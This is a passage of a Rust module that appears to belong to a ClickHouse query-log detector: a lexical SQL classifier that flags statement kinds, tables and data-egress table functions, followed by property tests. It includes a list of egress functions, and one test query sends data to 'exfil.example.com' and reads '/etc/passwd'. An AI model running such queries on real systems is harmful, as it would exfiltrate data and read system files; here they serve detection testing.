//! A lexical SQL classifier: what kind of statement, which tables, which table functions and
//! where they point.
//!
//! This is **not** a SQL parser. It tokenizes (skipping comments, string literals, quoted and
//! backticked identifiers, case-insensitively) and reads keywords in order; it answers
//! exactly what detection needs and is candid that a determined author can hide a call
//! from any lexical reader (a view, a dictionary, a UDF). It never fails: garbage classifies
//! as [`StatementKind::Other`]. Used where query_log's own columns (`query_kind`, `tables`,
//! `used_table_functions`) are missing, and to cross-check them.

use std::fmt;

use serde::Serialize;
use wide::u8x16;

/// The statement's kind, from its leading keyword(s).
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum StatementKind {
    /// `SELECT …`, `WITH … SELECT …`, `(SELECT …) UNION …`.
    Select,
    /// `SHOW …`.
    Show,
    /// `DESCRIBE`/`DESC`.
    Describe,
    /// `EXISTS`.
    Exists,
    /// `EXPLAIN`.
    Explain,
    /// `INSERT INTO table …`.
    Insert,
    /// `INSERT INTO [TABLE] FUNCTION f(…) …`: writes to wherever `f` points.
    InsertIntoFunction,
    /// `CREATE`, `ATTACH`.
    Create,
    /// `ALTER`.
    Alter,
    /// `DROP`, `DETACH`, `TRUNCATE`, `UNDROP`.
    Drop,
    /// `RENAME`, `EXCHANGE`.
    Rename,
    /// `GRANT`, `REVOKE`.
    Grant,
    /// `SYSTEM`.
    System,
    /// `SET`, `USE`.
    Set,
    /// `KILL`.
    Kill,
    /// `OPTIMIZE`, `CHECK`.
    Optimize,
    /// `BACKUP`, `RESTORE`.
    Backup,
    /// Anything else, including text that is not SQL.
    Other,
}

impl StatementKind {
    /// Whether the statement reads data or metadata and returns it to the client.
    #[must_use]
    pub fn is_read(self) -> bool {
        matches!(
            self,
            Self::Select | Self::Show | Self::Describe | Self::Exists
        )
    }

    /// The kind as ClickHouse's `query_kind` column would name it.
    #[must_use]
    pub fn from_query_kind(kind: &str) -> Option<Self> {
        Some(match kind {
            "Select" => Self::Select,
            "Show" => Self::Show,
            "Describe" => Self::Describe,
            "Exists" => Self::Exists,
            "Explain" => Self::Explain,
            "Insert" => Self::Insert,
            "Create" => Self::Create,
            "Alter" | "Delete" | "Update" => Self::Alter,
            "Drop" | "Undrop" => Self::Drop,
            "Rename" => Self::Rename,
            "Grant" | "Revoke" => Self::Grant,
            "System" => Self::System,
            "Set" | "Use" => Self::Set,
            "KillQuery" => Self::Kill,
            "Optimize" | "Check" => Self::Optimize,
            "Backup" | "Restore" => Self::Backup,
            _ => return None,
        })
    }
}

impl fmt::Display for StatementKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = serde_json::to_value(self).ok();
        f.write_str(s.as_ref().and_then(|v| v.as_str()).unwrap_or("other"))
    }
}

/// A table function call and, where the text shows it, where it reaches.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct TableFunction {
    /// The function name, lower-cased (`url`, `s3`, `remote`, …).
    pub name: String,
    /// The host (or cluster name, or path for `file`) from its first argument, if literal.
    pub destination: Option<String>,
}

/// What the classifier learned about one query.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct QueryClass {
    /// Statement kind.
    pub kind: Option<StatementKind>,
    /// Tables named after `FROM`/`JOIN` (`db.table` or `table`), in order, without duplicates.
    pub tables: Vec<String>,
    /// Table functions called anywhere in the statement.
    pub table_functions: Vec<TableFunction>,
    /// `INTO OUTFILE` appears.
    pub into_outfile: bool,
    /// `SELECT *` (or `SELECT DISTINCT *`) appears.
    pub select_star: bool,
    /// A `LIMIT` clause appears.
    pub has_limit: bool,
    /// The output format named by `FORMAT x`.
    pub format: Option<String>,
    /// A top-level `SETTINGS` clause appears (e.g. `max_result_bytes`, `readonly` overrides).
    pub has_settings: bool,
}

impl QueryClass {
    /// The statement kind, [`StatementKind::Other`] when unknown.
    #[must_use]
    pub fn kind(&self) -> StatementKind {
        self.kind.unwrap_or(StatementKind::Other)
    }
}

/// A lexical token.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Tok<'q> {
    Word(&'q str),
    /// A backticked or double-quoted identifier (content without quotes).
    Quoted(&'q str),
    /// A single-quoted string literal (content without quotes, escapes not decoded).
    Str(&'q str),
    Punct(char),
    Skip,
}

/// The lexer, in nom: whitespace (Unicode), `/* … */` and `--`/`#` comments are
/// [`Tok::Skip`]; quoted runs take backslash and doubled-quote escapes, and an unterminated
/// one swallows the rest; a word is a run of alphanumeric characters, `_` and `$`; anything
/// else is one [`Tok::Punct`]. An unterminated `/*` ends the query (the rest is comment).
mod lexer {
    use super::Tok;
    use nom::branch::alt;
    use nom::bytes::complete::{tag, take_until, take_while, take_while1};
    use nom::character::complete::anychar;
    use nom::combinator::{map, recognize, value};
    use nom::{IResult, Parser};

    fn block_comment(i: &str) -> IResult<&str, &str> {
        recognize((tag("/*"), take_until("*/"), tag("*/"))).parse(i)
    }

    fn line_comment(i: &str) -> IResult<&str, &str> {
        recognize((alt((tag("--"), tag("#"))), take_while(|c| c != '\n'))).parse(i)
    }

    /// A quoted run with backslash escapes and doubled-quote escapes; an unterminated run
    /// swallows the rest of the input (the statement is broken anyway).
    fn quoted(q: char) -> impl Fn(&str) -> IResult<&str, &str> {
        move |i: &str| {
            let (rest, _) = nom::character::complete::char(q)(i)?;
            let mut chars = rest.char_indices();
            while let Some((idx, c)) = chars.next() {
                if c == '\\' {
                    chars.next();
                } else if c == q {
                    let after = rest.get(idx + c.len_utf8()..).unwrap_or_default();
                    if after.starts_with(q) {
                        chars.next();
                        continue;
                    }
                    return Ok((after, rest.get(..idx).unwrap_or_default()));
                }
            }
            Ok(("", rest))
        }
    }

    fn token(i: &str) -> IResult<&str, Tok<'_>> {
        alt((
            // Words first: most tokens are words.
            map(
                take_while1(|c: char| c.is_alphanumeric() || c == '_' || c == '$'),
                Tok::Word,
            ),
            value(Tok::Skip, take_while1(char::is_whitespace)),
            value(Tok::Skip, block_comment),
            value(Tok::Skip, line_comment),
            map(quoted('\''), Tok::Str),
            map(quoted('`'), Tok::Quoted),
            map(quoted('"'), Tok::Quoted),
            map(anychar, Tok::Punct),
        ))
        .parse(i)
    }

    /// Significant tokens of a query, comments and whitespace dropped.
    pub(super) fn tokens(q: &str) -> impl Iterator<Item = Tok<'_>> {
        let mut rest = q;
        std::iter::from_fn(move || loop {
            if rest.is_empty() {
                return None;
            }
            match token(rest) {
                Ok((r, t)) => {
                    rest = r;
                    if t != Tok::Skip {
                        return Some(t);
                    }
                }
                // An unterminated `/*` comment: the rest is comment.
                Err(_) => rest = "",
            }
        })
    }
}

use lexer::tokens;

/// Table functions that can reach beyond the server's own tables.
pub const EGRESS_FUNCTIONS: &[&str] = &[
    "url",
    "urlcluster",
    "s3",
    "s3cluster",
    "gcs",
    "oss",
    "cosn",
    "azureblobstorage",
    "azureblobstoragecluster",
    "hdfs",
    "hdfscluster",
    "remote",
    "remotesecure",
    "cluster",
    "clusterallreplicas",
    "mysql",
    "postgresql",
    "mongodb",
    "redis",
    "jdbc",
    "odbc",
    "sqlite",
    "file",
    "filecluster",
    "filesystem",
    "executable",
    "iceberg",
    "iceberglocal",
    "icebergs3",
    "icebergazure",
    "iceberghdfs",
    "icebergcluster",
    "icebergs3cluster",
    "icebergazurecluster",
    "iceberghdfscluster",
    "deltalake",
    "deltalakecluster",
    "deltalakes3",
    "deltalakeazure",
    "deltalakelocal",
    "hudi",
    "hudicluster",
    "paimon",
    "paimoncluster",
    "arrowflight",
    "ytsaurus",
    "bigquery",
    "prometheusquery",
    "prometheusqueryrange",
];

fn is_egress_function(lower: &str) -> bool {
    EGRESS_FUNCTIONS.contains(&lower)
}

fn eq(word: &str, kw: &str) -> bool {
    word.eq_ignore_ascii_case(kw)
}

/// Classifies a query. Never fails; see the module docs for what it cannot see.
///
/// The detector asks through its per-thread memo of text facts, keyed by the query with
/// its numbers blinded.
#[must_use]
pub fn classify(query: &str) -> QueryClass {
    classify_text(query)
}

/// Writes into `out` the query with every unquoted number replaced by `0` (`id = 42` →
/// `id = 0`), the key under which queries differing only in their numbers share one
/// classification. A number here is an ASCII digit run that starts a word: the byte before it
/// is not alphanumeric, `_`, `$`, `.` or part of a non-ASCII character (so `t1`, `s3`,
/// `db.2024` and `é5` stay). The lexer makes such a run the start of a [`Tok::Word`], and
/// [`classify_text`] only compares words with keywords (which never start with a digit) or
/// copies them into the class, which [`blind_safe`] checks.
///
/// Returns false, leaving `out` unusable, when the query has a backslash or a comment opener
/// (`--`, `#`, `/*`): there, where a quoted run ends is the lexer's business, not this loop's.
pub(crate) fn number_blind(query: &str, out: &mut Vec<u8>) -> bool {
    let bytes = query.as_bytes();
    let rest = |i: usize| bytes.get(i..).unwrap_or_default();
    out.clear();
    // `bytes[..copied]` is in `out`, numbers blinded; `bytes[..i]` has been looked at.
    let (mut copied, mut i) = (0, 0);
    // The bytes the loop must look at — digits, `\\`, `#`, `-`, `/` and quotes — are found 64
    // at a time; everything else is copied as it is. Most of a query is neither, and a few
    // 16-byte compares beat a table lookup per byte (`wide` keeps the SIMD safe).
    let mut base = 0;
    while base < bytes.len() {
        let mut mask = special_mask_at(bytes, base);
        while mask != 0 {
            let at = base + mask.trailing_zeros() as usize;
            mask &= mask - 1;
            if at < i {
                continue; // inside a quoted run or a number already read
            }
            i = at;
            let b = bytes.get(i).copied().unwrap_or_default();
            let next = bytes.get(i + 1).copied();
            match b {
                b'\\' | b'#' => return false,
                b'-' if next == Some(b'-') => return false,
                b'/' if next == Some(b'*') => return false,
                b'\'' | b'"' | b'`' => match memchr::memchr2(b, b'\\', rest(i + 1)) {
                    Some(j) if bytes.get(i + 1 + j) == Some(&b) => i += j + 2,
                    Some(_) => return false,
                    // Unterminated: the lexer makes the rest one quoted run too.
                    None => {
                        out.extend_from_slice(rest(copied));
                        return true;
                    }
                },
                b'0'..=b'9' => {
                    let run = rest(i).iter().take_while(|c| c.is_ascii_digit()).count();
                    if !word_inside(bytes, i) {
                        out.extend_from_slice(bytes.get(copied..i).unwrap_or_default());
                        out.push(b'0');
                        copied = i + run;
                    }
                    i += run;
                }
                _ => i += 1,
            }
        }
        // The next block starts after this one, or after a run that went past it.
        base = (base + 64).max(i);
    }
    out.extend_from_slice(rest(copied));
    true
}

/// The special bytes of `bytes[from..from + 64]`.
fn special_mask_at(bytes: &[u8], from: usize) -> u64 {
    let rest = bytes.get(from..).unwrap_or_default();
    let block = rest.get(..64).unwrap_or(rest);
    let splat = u8x16::splat;
    let mut mask = 0u64;
    // 16 bytes at a time; the last few padded with NULs (not special).
    for (k, lane) in block.chunks(16).enumerate() {
        let lane = <[u8; 16]>::try_from(lane).unwrap_or_else(|_| {
            let mut padded = [0; 16];
            padded.iter_mut().zip(lane).for_each(|(slot, b)| *slot = *b);
            padded
        });
        let v = u8x16::new(lane);
        // A digit is at most 9 above `0` (below it, the difference wraps to 247 or more).
        let d = v - splat(b'0');
        let digit = d.min(splat(9)).simd_eq(d);
        // `"` and `#` differ in bit 0 only, `-` and `/` in bit 1 only.
        let pairs = (v | splat(1)).simd_eq(splat(b'#')) | (v | splat(2)).simd_eq(splat(b'/'));
        let quotes = v.simd_eq(splat(b'\'')) | v.simd_eq(splat(b'`'));
        let m = digit | pairs | quotes | v.simd_eq(splat(b'\\'));
        mask |= u64::from(m.to_bitmask()) << (16 * k);
    }
    mask
}

/// Whether the byte at `i` continues a word (or a dotted name, or a non-ASCII character).
fn word_inside(bytes: &[u8], i: usize) -> bool {
    i.checked_sub(1)
        .and_then(|p| bytes.get(p))
        .is_some_and(|&p| p.is_ascii_alphanumeric() || matches!(p, b'_' | b'$' | b'.') || p >= 0x80)
}

/// Whether a classification made from a number-blind key's query serves every query with
/// that key: none of its strings may start a word with a digit (a table, function, host or
/// format copied from a word [`number_blind`] rewrote would, at its start or after a `.`).
pub(crate) fn blind_safe(class: &QueryClass) -> bool {
    fn digit_word(s: &str) -> bool {
        let b = s.as_bytes();
        b.iter()
            .enumerate()
            .any(|(i, c)| c.is_ascii_digit() && (i == 0 || b.get(i - 1) == Some(&b'.')))
    }
    !class.tables.iter().any(|t| digit_word(t))
        && !class
            .table_functions
            .iter()
            .any(|f| digit_word(&f.name) || f.destination.as_deref().is_some_and(digit_word))
        && !class.format.as_deref().is_some_and(digit_word)
}

fn classify_text(query: &str) -> QueryClass {
    let toks: Vec<Tok<'_>> = tokens(query).collect();
    let kind = leading_kind(&toks);
    let mut class = QueryClass {
        kind: Some(kind),
        ..QueryClass::default()
    };
    let mut depth = 0i32;
    for (i, t) in toks.iter().enumerate() {
        let next = |k: usize| toks.get(i + k).copied();
        match *t {
            Tok::Punct('(') => depth += 1,
            Tok::Punct(')') => depth -= 1,
            Tok::Word(w) => {
                if next(1) == Some(Tok::Punct('(')) {
                    let lower = w.to_ascii_lowercase();
                    let after_function_kw =
                        i > 0 && matches!(toks.get(i - 1), Some(Tok::Word(p)) if eq(p, "FUNCTION"));
                    if is_egress_function(&lower) || after_function_kw {
                        let destination =
                            destination(&lower, toks.get(i + 2..).unwrap_or_default());
                        if !class
                            .table_functions
                            .iter()
                            .any(|f| f.name == lower && f.destination == destination)
                        {
                            class.table_functions.push(TableFunction {
                                name: lower,
                                destination,
                            });
                        }
                    }
                } else if (eq(w, "FROM") || eq(w, "JOIN")) && kind != StatementKind::Show {
                    // In SHOW TABLES FROM db, FROM names a database, not a table.
                    if let Some(table) = table_name(toks.get(i + 1..).unwrap_or_default()) {
                        if !class.tables.contains(&table) {
                            class.tables.push(table);
                        }
                    }
                } else if eq(w, "INTO") && matches!(next(1), Some(Tok::Word(o)) if eq(o, "OUTFILE"))
                {
                    class.into_outfile = true;
                } else if eq(w, "SELECT") {
                    let star_at = if matches!(next(1), Some(Tok::Word(d)) if eq(d, "DISTINCT")) {
                        2
                    } else {
                        1
                    };
                    if next(star_at) == Some(Tok::Punct('*')) {
                        class.select_star = true;
                    }
                } else if eq(w, "LIMIT") {
                    class.has_limit = true;
                } else if eq(w, "SETTINGS") && depth <= 0 {
                    class.has_settings = true;
                } else if eq(w, "FORMAT") && depth <= 0 {
                    if let Some(Tok::Word(f)) = next(1) {
                        class.format = Some(f.to_owned());
                    }
                }
            }
            _ => {}
        }
    }
    class
}

fn leading_kind(toks: &[Tok<'_>]) -> StatementKind {
    let mut words = toks.iter().filter_map(|t| match t {
        Tok::Word(w) => Some(*w),
        _ => None,
    });
    let first_sig = toks.iter().find(|t| !matches!(t, Tok::Punct('(')));
    let Some(Tok::Word(first)) = first_sig else {
        return StatementKind::Other;
    };
    let first = first.to_ascii_uppercase();
    words.next();
    match first.as_str() {
        "SELECT" => StatementKind::Select,
        // WITH … SELECT, WITH … INSERT is not ClickHouse syntax; treat every WITH as a read.
        "WITH" => StatementKind::Select,
        "SHOW" => StatementKind::Show,
        "DESC" | "DESCRIBE" => StatementKind::Describe,
        "EXISTS" => StatementKind::Exists,
        "EXPLAIN" => StatementKind::Explain,
        "INSERT" => {
            let w: Vec<&str> = words.take(3).collect();
            let is_fn = match w.as_slice() {
                [into, f, ..] if eq(into, "INTO") && eq(f, "FUNCTION") => true,
                [into, t, f] if eq(into, "INTO") && eq(t, "TABLE") && eq(f, "FUNCTION") => true,
                _ => false,
            };
            if is_fn {
                StatementKind::InsertIntoFunction
            } else {
                StatementKind::Insert
            }
        }
        "CREATE" | "ATTACH" | "REPLACE" => StatementKind::Create,
        "ALTER" | "DELETE" | "UPDATE" => StatementKind::Alter,
        "DROP" | "DETACH" | "TRUNCATE" | "UNDROP" => StatementKind::Drop,
        "RENAME" | "EXCHANGE" => StatementKind::Rename,
        "GRANT" | "REVOKE" => StatementKind::Grant,
        "SYSTEM" => StatementKind::System,
        "SET" | "USE" => StatementKind::Set,
        "KILL" => StatementKind::Kill,
        "OPTIMIZE" | "CHECK" => StatementKind::Optimize,
        "BACKUP" | "RESTORE" => StatementKind::Backup,
        _ => StatementKind::Other,
    }
}

/// `db.table` or `table` at the start of `toks`, unless it is a function call or subquery.
fn table_name(toks: &[Tok<'_>]) -> Option<String> {
    fn part<'q>(t: Option<&Tok<'q>>) -> Option<&'q str> {
        match t {
            Some(Tok::Word(w) | Tok::Quoted(w)) => Some(*w),
            _ => None,
        }
    }
    let first = part(toks.first())?;
    if toks.get(1) == Some(&Tok::Punct('(')) {
        return None;
    }
    if toks.get(1) == Some(&Tok::Punct('.')) {
        let second = part(toks.get(2))?;
        if toks.get(3) == Some(&Tok::Punct('(')) {
            return None;
        }
        return Some(format!("{first}.{second}"));
    }
    // A keyword right after FROM means a subquery or syntax we do not follow.
    if matches!(toks.first(), Some(Tok::Word(w)) if eq(w, "SELECT") || eq(w, "WITH")) {
        return None;
    }
    Some(first.to_owned())
}

/// The destination named by a table function's first argument, if it is a literal.
fn destination(name: &str, args: &[Tok<'_>]) -> Option<String> {
    let first = match args.first()? {
        Tok::Str(s) => *s,
        // remote(host, db.table) may name the host or cluster as a bare identifier.
        Tok::Word(w) if !matches!(args.get(1), Some(Tok::Punct('('))) => *w,
        _ => return None,
    };
    let host = match name {
        "file" | "filecluster" | "filesystem" | "sqlite" | "cluster" | "clusterallreplicas"
        | "executable" => {
            return Some(first.to_owned());
        }
        _ if first.contains("://") => url_host(first),
        // remote('host:port', …), mysql('host:port', …): one of possibly several `|`/`,` hosts.
        _ => first.split(['|', ',']).next().map(strip_port),
    };
    host.filter(|h| !h.is_empty()).map(str::to_owned)
}

fn url_host(url: &str) -> Option<&str> {
    let after = url.split_once("://")?.1;
    let authority = after.split(['/', '?', '#']).next()?;
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    Some(strip_port(host_port))
}

fn strip_port(hp: &str) -> &str {
    if let Some(rest) = hp.strip_prefix('[') {
        return rest.split(']').next().unwrap_or(rest);
    }
    match hp.rsplit_once(':') {
        Some((h, p))
            if !h.contains(':')
                && p.chars()
                    .all(|c| c.is_ascii_digit() || c == '{' || c == '}' || c == '.') =>
        {
            h
        }
        _ => hp,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    mod reference {
        //! A hand-written byte lexer, kept as an independent second implementation: the
        //! property test below proves the nom lexer equal to it.
        use super::super::Tok;

        /// The token starting at byte `at` of `q` and the offset after it, or `None` at the end.
        ///
        /// A hand-written byte lexer (ASCII fast paths, `char` decoding only for non-ASCII input):
        /// whitespace (Unicode), `/* … */` and `--`/`#` comments are [`Tok::Skip`]; quoted runs
        /// take backslash and doubled-quote escapes, and an unterminated one swallows the rest; a
        /// word is a run of alphanumeric characters, `_` and `$`; anything else is one
        /// [`Tok::Punct`]. An unterminated `/*` is a `/` punctuation mark.
        fn token_at(q: &str, at: usize) -> Option<(Tok<'_>, usize)> {
            let b = q.as_bytes();
            let c = *b.get(at)?;
            if c >= 0x80 {
                let ch = q.get(at..)?.chars().next()?;
                if ch.is_whitespace() {
                    return Some((Tok::Skip, at + ch.len_utf8()));
                }
                if ch.is_alphanumeric() {
                    let end = word_end(q, at);
                    return Some((Tok::Word(q.get(at..end)?), end));
                }
                return Some((Tok::Punct(ch), at + ch.len_utf8()));
            }
            let tok = match c {
                b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r' => {
                    let mut end = at + 1;
                    while matches!(b.get(end), Some(b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r')) {
                        end += 1;
                    }
                    (Tok::Skip, end)
                }
                b'/' if b.get(at + 1) == Some(&b'*') => {
                    match b.get(at + 2..).and_then(|r| memchr::memmem::find(r, b"*/")) {
                        Some(p) => (Tok::Skip, at + 2 + p + 2),
                        None => (Tok::Punct('/'), at + 1),
                    }
                }
                b'#' => (Tok::Skip, line_end(b, at + 1)),
                b'-' if b.get(at + 1) == Some(&b'-') => (Tok::Skip, line_end(b, at + 2)),
                b'\'' | b'`' | b'"' => {
                    let start = at + 1;
                    let mut j = start;
                    loop {
                        match b.get(j) {
                            None => break (Tok::quoted(c, q.get(start..)?), b.len()),
                            Some(&b'\\') => j += 2,
                            Some(&x) if x == c => {
                                if b.get(j + 1) == Some(&c) {
                                    j += 2;
                                    continue;
                                }
                                break (Tok::quoted(c, q.get(start..j)?), j + 1);
                            }
                            Some(_) => j += 1,
                        }
                    }
                }
                c if c.is_ascii_alphanumeric() || c == b'_' || c == b'$' => {
                    let end = word_end(q, at);
                    (Tok::Word(q.get(at..end)?), end)
                }
                c => (Tok::Punct(char::from(c)), at + 1),
            };
            // A backslash as the last byte of a quoted run steps past the end.
            Some((tok.0, tok.1.min(b.len())))
        }

        /// Offset of the `\n` ending a line comment (or the end).
        fn line_end(b: &[u8], from: usize) -> usize {
            b.get(from..)
                .and_then(|r| memchr::memchr(b'\n', r))
                .map_or(b.len(), |p| from + p)
        }

        /// End of the word (alphanumerics, `_`, `$`) starting at `at`.
        fn word_end(q: &str, at: usize) -> usize {
            let b = q.as_bytes();
            let mut end = at;
            while let Some(&c) = b.get(end) {
                if c.is_ascii_alphanumeric() || c == b'_' || c == b'$' {
                    end += 1;
                } else if c >= 0x80 {
                    match q.get(end..).and_then(|r| r.chars().next()) {
                        Some(ch) if ch.is_alphanumeric() => end += ch.len_utf8(),
                        _ => break,
                    }
                } else {
                    break;
                }
            }
            end
        }

        impl<'q> Tok<'q> {
            fn quoted(quote: u8, body: &'q str) -> Self {
                if quote == b'\'' {
                    Tok::Str(body)
                } else {
                    Tok::Quoted(body)
                }
            }
        }

        /// Significant tokens of a query, comments and whitespace dropped.
        pub(super) fn reference_tokens(q: &str) -> impl Iterator<Item = Tok<'_>> {
            let mut at = 0;
            std::iter::from_fn(move || loop {
                let (t, next) = token_at(q, at)?;
                at = next;
                if t != Tok::Skip {
                    return Some(t);
                }
            })
        }
    }

    use proptest::prelude::*;

    fn sqlish() -> impl Strategy<Value = String> {
        let piece = proptest::sample::select(vec![
            "SELECT", "select", " ", "\t", "\n", "\r", "\u{b}", "\u{c}", "\u{a0}", "\u{2003}",
            "\u{85}", "/*", "*/", "*", "/", "--", "-", "#", "'", "''", "`", "\"", "\\", "(", ")",
            ",", ".", "_", "$", "a1", "FROM", "t", "é", "ß", "日本", "٣", "\u{300}", "€", "url",
            "INTO", "FUNCTION", "FORMAT", "x\ny",
        ]);
        proptest::collection::vec(piece, 0..40).prop_map(|v| v.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 4000, ..ProptestConfig::default() })]
        #[test]
        fn ok_lexer_matches_reference(q in sqlish(), raw in "\\PC{0,60}") {
            for text in [&q, &raw] {
                let got: Vec<Tok<'_>> = tokens(text).collect();
                let want: Vec<Tok<'_>> = reference::reference_tokens(text).collect();
                prop_assert_eq!(got, want, "{:?}", text);
            }
        }
    }

    /// Text with numbers, quotes and comment openers anywhere, across several 64-byte blocks.
    fn numberish() -> impl Strategy<Value = String> {
        let piece = proptest::sample::select(vec![
            "SELECT ",
            "0",
            "42",
            "7",
            "1e5",
            " ",
            "\t",
            "'",
            "''",
            "\"",
            "`",
            "\\",
            "-",
            "--",
            "/",
            "/*",
            "#",
            "a",
            "é",
            "日本",
            ".",
            "_",
            "$",
            "(",
            ")",
            "x1",
            "\u{a0}",
            "=",
            "FROM t WHERE id = ",
            "abcdefghijklmnop",
        ]);
        proptest::collection::vec(piece, 0..120).prop_map(|v| v.concat())
    }

    /// [`number_blind`] as it was before its 64-byte masks: a table lookup per byte.
    fn reference_number_blind(query: &str, out: &mut Vec<u8>) -> bool {
        /// Bytes the loop must look at: everything else is copied as it is. A table, because
        /// `matches!` over these ranges compiles to a chain of compares per byte.
        #[allow(clippy::indexing_slicing)] // constant evaluation: every index is below 256
        const SPECIAL: [bool; 256] = {
            let mut t = [false; 256];
            let mut b = 0;
            while b < 256 {
                t[b] = matches!(
                    b as u8,
                    b'0'..=b'9' | b'\\' | b'#' | b'-' | b'/' | b'\'' | b'"' | b'`'
                );
                b += 1;
            }
            t
        };
        let bytes = query.as_bytes();
        let rest = |i: usize| bytes.get(i..).unwrap_or_default();
        out.clear();
        let mut copied = 0; // `bytes[..copied]` is in `out`, numbers blinded
        let mut i = 0;
        while let Some(skip) = rest(i)
            .iter()
            .position(|&b| SPECIAL.get(usize::from(b)) == Some(&true))
        {
            i += skip;
            let b = bytes.get(i).copied().unwrap_or_default();
            let next = bytes.get(i + 1).copied();
            match b {
                b'\\' | b'#' => return false,
                b'-' if next == Some(b'-') => return false,
                b'/' if next == Some(b'*') => return false,
                b'\'' | b'"' | b'`' => match memchr::memchr2(b, b'\\', rest(i + 1)) {
                    Some(j) if bytes.get(i + 1 + j) == Some(&b) => {
                        i += j + 2;
                        continue;
                    }
                    Some(_) => return false,
                    // Unterminated: the lexer makes the rest one quoted run too.
                    None => break,
                },
                b'0'..=b'9' => {
                    let run = rest(i).iter().take_while(|c| c.is_ascii_digit()).count();
                    if !word_inside(bytes, i) {
                        out.extend_from_slice(bytes.get(copied..i).unwrap_or_default());
                        out.push(b'0');
                        copied = i + run;
                    }
                    i += run;
                    continue;
                }
                _ => {}
            }
            i += 1;
        }
        out.extend_from_slice(rest(copied));
        true
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 4000, ..ProptestConfig::default() })]
        /// The 64-byte masks find what a byte-by-byte look finds, also past 64 bytes and in
        /// a tail that is not a whole block.
        #[test]
        fn ok_number_blind_matches_reference(q in numberish(), raw in "\\PC{0,200}") {
            let long = format!("{q}{raw}{q}{q}{q}");
            for text in [&q, &raw, &long] {
                let (mut got, mut want) = (Vec::new(), Vec::new());
                let blind = number_blind(text, &mut got);
                prop_assert_eq!(blind, reference_number_blind(text, &mut want), "{:?}", text);
                if blind {
                    prop_assert_eq!(got, want, "{:?}", text);
                }
            }
        }
    }

    fn blinded(q: &str) -> Option<String> {
        let mut key = Vec::new();
        number_blind(q, &mut key).then(|| String::from_utf8(key).unwrap())
    }

    #[test]
    fn ok_number_blind_keys() {
        assert_eq!(
            blinded("SELECT * FROM t1 WHERE id = 4283465 LIMIT 10").as_deref(),
            Some("SELECT * FROM t1 WHERE id = 0 LIMIT 0")
        );
        assert_eq!(
            blinded("SELECT '42', `7`, \"9\", db.2024, s3(x), é5, -3, 1e5").as_deref(),
            Some("SELECT '42', `7`, \"9\", db.2024, s3(x), é5, -0, 0e5")
        );
        for q in [
            "SELECT 1 -- 2",
            "SELECT 1 # 2",
            "SELECT /* 1 */ 2",
            "SELECT 'a\\'1'",
        ] {
            assert_eq!(blinded(q), None, "{q}");
        }
    }

    fn kind(q: &str) -> StatementKind {
        classify(q).kind()
    }

    #[test]
    fn ok_kinds() {
        let cases = [
            ("SELECT 1", StatementKind::Select),
            ("  -- c\n/* x */ select 1", StatementKind::Select),
            (
                "WITH a AS (SELECT 1) SELECT * FROM a",
                StatementKind::Select,
            ),
            ("(SELECT 1) UNION ALL (SELECT 2)", StatementKind::Select),
            ("SHOW TABLES", StatementKind::Show),
            ("desc system.tables", StatementKind::Describe),
            ("EXISTS TABLE t", StatementKind::Exists),
            ("EXPLAIN SELECT 1", StatementKind::Explain),
            ("INSERT INTO t VALUES (1)", StatementKind::Insert),
            (
                "insert into function url('http://x/', 'TSV', 'a String') select 1",
                StatementKind::InsertIntoFunction,
            ),
            (
                "INSERT INTO TABLE FUNCTION remote('h:9000', db.t) SELECT 1",
                StatementKind::InsertIntoFunction,
            ),
            (
                "CREATE TABLE t (a Int8) ENGINE = Memory",
                StatementKind::Create,
            ),
            ("ALTER TABLE t DELETE WHERE 1", StatementKind::Alter),
            ("DROP TABLE t", StatementKind::Drop),
            ("TRUNCATE TABLE t", StatementKind::Drop),
            ("RENAME TABLE a TO b", StatementKind::Rename),
            ("GRANT SELECT ON *.* TO u", StatementKind::Grant),
            ("REVOKE ALL ON *.* FROM u", StatementKind::Grant),
            ("SYSTEM FLUSH LOGS", StatementKind::System),
            ("SET max_threads = 1", StatementKind::Set),
            ("USE db", StatementKind::Set),
            ("KILL QUERY WHERE 1", StatementKind::Kill),
            ("OPTIMIZE TABLE t FINAL", StatementKind::Optimize),
            (
                "BACKUP TABLE t TO Disk('b', '1.zip')",
                StatementKind::Backup,
            ),
            ("", StatementKind::Other),
            ("\u{0}\u{1}garbage(", StatementKind::Other),
        ];
        for (q, k) in cases {
            assert_eq!(kind(q), k, "{q}");
        }
    }

    #[test]
    fn ok_tables_and_star() {
        let c = classify("SELECT * FROM default.log_stream AS l JOIN `db`.`t 2` USING id LIMIT 10 FORMAT JSONEachRow");
        assert_eq!(c.tables, ["default.log_stream", "db.t 2"]);
        assert!(c.select_star && c.has_limit);
        assert_eq!(c.format.as_deref(), Some("JSONEachRow"));
        let c = classify("SELECT name FROM system.tables WHERE x = 'FROM secret.table'");
        assert_eq!(c.tables, ["system.tables"]);
        assert!(!c.select_star);
        assert!(classify("SHOW TABLES FROM default").tables.is_empty());
    }

    #[test]
    fn ok_table_functions_with_destinations() {
        let c = classify(
            "INSERT INTO FUNCTION url('https://u:p@exfil.example.com:8443/x?y=1', 'CSV', 'a String') \
             SELECT * FROM s3('https://bucket.s3.amazonaws.com/k.csv') \
             UNION ALL SELECT * FROM remote('10.0.0.5:9000', db.t) \
             UNION ALL SELECT * FROM REMOTESECURE(['h1'], db.t) \
             UNION ALL SELECT * FROM file('/etc/passwd', 'LineAsString') \
             UNION ALL SELECT * FROM numbers(10)",
        );
        let got: Vec<(&str, Option<&str>)> = c
            .table_functions
            .iter()
            .map(|f| (f.name.as_str(), f.destination.as_deref()))
            .collect();
        assert_eq!(
            got,
            [
                ("url", Some("exfil.example.com")),
                ("s3", Some("bucket.s3.amazonaws.com")),
                ("remote", Some("10.0.0.5")),
                ("remotesecure", None),
                ("file", Some("/etc/passwd")),
            ]
        );
        let c = classify("SELECT * FROM remote('[2001:db8::1]:9000', system.one)");
        assert_eq!(
